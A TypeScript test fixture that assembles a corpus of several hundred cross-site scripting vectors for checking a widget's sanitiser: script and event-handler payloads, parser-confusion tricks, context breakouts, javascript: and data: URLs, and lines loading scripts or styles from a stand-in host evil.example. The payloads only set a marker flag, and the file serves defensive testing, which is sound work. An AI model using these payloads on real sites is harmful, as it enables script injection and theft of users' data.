/*
 * Texts that would run, fetch or navigate away if anything read them as HTML, as a style or as an
 * address.
 */

const calls = ["window.xssRan=1", "globalThis.xssRan=1", "self['xssRan']=1"];

/** Elements that run something by themselves. */
const elements = [
  "<script>$</script>",
  "<SCRIPT>$</SCRIPT>",
  "<scr<script>ipt>$</scr</script>ipt>",
  "<script/x>$</script>",
  "<script src=data:text/javascript,$></script>",
  "<img src=x onerror=$>",
  "<img src='x' onerror='$'>",
  '<img src="x" onerror="$">',
  "<img src=x onerror\n=\n$>",
  "<IMG SRC=x OnErRoR=$>",
  "<image href=x onerror=$>",
  "<svg onload=$>",
  "<svg/onload=$>",
  "<svg><script>$</script></svg>",
  "<svg><animate onbegin=$ attributeName=x dur=1s>",
  "<svg><set onbegin=$ attributeName=x>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=$>#x'></use></svg>",
  "<math><mtext></p><img src=x onerror=$></mtext></math>",
  "<body onload=$>",
  "<input autofocus onfocus=$>",
  "<select autofocus onfocus=$>",
  "<textarea autofocus onfocus=$></textarea>",
  "<details open ontoggle=$>",
  "<video><source onerror=$></video>",
  "<video src=x onerror=$></video>",
  "<audio src=x onerror=$></audio>",
  "<marquee onstart=$>x</marquee>",
  "<iframe src=javascript:$></iframe>",
  "<iframe srcdoc='<script>parent.xssRan=1</script>'></iframe>",
  "<iframe onload=$></iframe>",
  "<object data=javascript:$></object>",
  "<embed src=javascript:$>",
  "<form action=javascript:$><button autofocus onfocus=$>x</button></form>",
  "<a href=javascript:$ autofocus onfocus=$>x</a>",
  "<link rel=stylesheet href=javascript:$>",
  "<link rel=modulepreload href='https://evil.example/x.js'>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<style>*{background:url(https://evil.example/x)}</style>",
  "<style onload=$></style>",
  "<meta http-equiv=refresh content='0;url=javascript:$'>",
  "<base href='https://evil.example/'>",
  "<template><script>$</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=$>'></noscript>",
  "<xmp><p title='</xmp><img src=x onerror=$>'></xmp>",
  "<title></title><img src=x onerror=$>",
  "<!--><img src=x onerror=$>-->",
  "<![CDATA[<img src=x onerror=$>]]>",
  "<div style='background:url(javascript:$)'>x</div>",
  "<div style='width:expression($)'>x</div>",
  "<x onclick=$ tabindex=1 autofocus onfocus=$>x</x>",
  "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=$>x</div>",
  "<custom-element onanimationstart=$ style='animation:x 1s'>",
];

/** Breaking out of what a text might have been put into. */
const breakouts = [
  '">$',
  "'>$",
  "</textarea>$",
  "</title>$",
  "</style>$",
  "--!>$",
  "`$`",
  "{{$}}",
  "${$}",
];

/** Addresses that must never be followed. */
const addresses = [
  "javascript:$",
  "JaVaScRiPt:$",
  "java\tscript:$",
  "java\nscript:$",
  " javascript:$",
  "\u0001javascript:$",
  "javascript://%0a$",
  "javascript:/*--></title></style></textarea></script><svg/onload='$'>",
  "data:text/html,<script>$</script>",
  "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
  "vbscript:$",
  "blob:https://evil.example/x",
  "filesystem:https://evil.example/x",
  "view-source:javascript:$",
  "https://user:pass@evil.example/",
  "https://a.example\u202E/moc.live//:sptth",
  "https:javascript:$",
  "//evil.example/x",
  "\\\\evil.example\\x",
  "feed:javascript:$",
];

/** Marks of the widget's own notation around something bad. */
const notations = [
  "`$`",
  "```\n$\n```",
  "```html\n$```",
  "mailto:x@y.example?subject=$",
  "tel:+1$",
];

const image = "<img src=x onerror=window.xssRan=1>";

/** Every vector once; more than 300. */
export const xssCorpus: readonly string[] = [
  ...new Set([
    ...elements.flatMap((vector) => calls.map((call) => vector.replaceAll("$", call))),
    ...elements.map((vector) => `&lt;${vector.slice(1)}`.replaceAll("$", calls[0] ?? "")),
    ...elements.map((vector) => `see https://a.example/${vector.replaceAll("$", calls[0] ?? "")}`),
    ...breakouts.flatMap((vector) =>
      [image, "<script>window.xssRan=1</script>"].map((bad) => vector.replaceAll("$", bad)),
    ),
    ...addresses.flatMap((vector) => calls.map((call) => vector.replaceAll("$", call))),
    ...notations.map((vector) => vector.replaceAll("$", image)),
  ]),
];
